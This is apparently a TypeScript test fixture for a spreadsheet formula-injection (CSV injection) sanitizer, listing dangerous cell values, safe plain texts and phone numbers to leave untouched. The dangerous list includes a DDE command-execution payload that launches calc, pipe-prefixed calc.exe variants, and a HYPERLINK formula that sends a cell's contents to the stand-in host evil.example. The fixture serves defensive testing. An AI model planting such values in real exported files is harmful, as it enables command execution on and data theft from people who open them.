// Texts that a downloaded list may hold.

/** What a spreadsheet would run. */
export const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1;"click")',
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1+1",
  "﹣1",
  "−1",
  "|calc.exe",
  " |calc.exe",
  "｜calc.exe",
  "\ttext",
];
/** What no spreadsheet runs. */
export const plainTexts = [
  "",
  "Rossi Mario",
  'O\'Brien; "Pat"',
  "a=b",
  "5-3",
  "mario@club.example",
  "两个\nrighe",
  "😀 = 1",
  "'quoted",
  " x",
];

/** Telephone numbers, which stay as they were typed. */
export const phones = ["+39 333 1234567", "+39 (0)2-1234.567", "+1/555", "+393331234567"];
